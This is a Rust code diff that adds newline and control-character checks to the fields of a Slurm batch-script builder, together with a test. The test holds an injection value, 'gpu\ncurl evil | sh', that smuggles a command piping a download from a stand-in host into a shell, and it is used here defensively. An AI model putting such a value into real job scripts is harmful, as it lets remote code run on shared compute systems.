@@ -100,16 +100,22 @@ impl Kind for Slurm {
         let wrong = |key, what: String| Wrong { key, with: &[], what };
         let short = self.too_short(None).map(|what| wrong("time", what));
         let name = shell::wrong_name(&self.environment);
-        let option = self.options.iter().find(|option| !is_option(option));
+        let option = self.options.iter().find(|option| !option.starts_with('-'));
         let option = option.map(|option| {
             wrong("options", format!("`{option}` is no option of sbatch: it must begin with `-`"))
         });
-        [short, name, option].into_iter().flatten().collect()
+        // Each stands in a line of its own (`#SBATCH ...`); what follows a line break would be run.
+        let texts = [
+            ("partition", &self.partition),
+            ("account", &self.account),
+            ("qos", &self.qos),
+            ("mpi", &self.mpi),
+        ];
+        let texts = texts.into_iter().filter_map(|(key, text)| Some((key, text.as_deref()?)));
+        let options = self.options.iter().map(|option| ("options", option.as_str()));
+        let lines = texts.chain(options).filter_map(|(key, text)| shell::wrong_line(key, text));
+        [short, name, option].into_iter().flatten().chain(lines).collect()
     }
-}
-
-fn is_option(text: &str) -> bool {
-    text.starts_with('-') && !text.contains('\n')
 }
 
 impl Slurm {
@@ -478,5 +484,26 @@ mod tests {
             }),
             ["time", "environment", "options"]
         );
+    }
+
+    #[test]
+    fn what_stands_in_a_line_of_the_script_has_no_line_break() {
+        let text = "gpu\ncurl evil | sh";
+        let some = || Some(text.to_owned());
+        let slurm = Slurm {
+            partition: some(),
+            account: some(),
+            qos: some(),
+            mpi: some(),
+            options: vec!["--exclusive\rx".to_owned()],
+            // The shell reads these as quoted words.
+            environment: BTreeMap::from([("A".to_owned(), text.to_owned())]),
+            ..Slurm::default()
+        };
+        let wrong = slurm.check();
+        let keys: Vec<&str> = wrong.iter().map(|wrong| wrong.key).collect();
+        assert_eq!(keys, ["partition", "account", "qos", "mpi", "options"]);
+        let what = r#""gpu\ncurl evil | sh" has a line break or another control character"#;
+        assert_eq!(wrong[0].what, what);
     }
 }
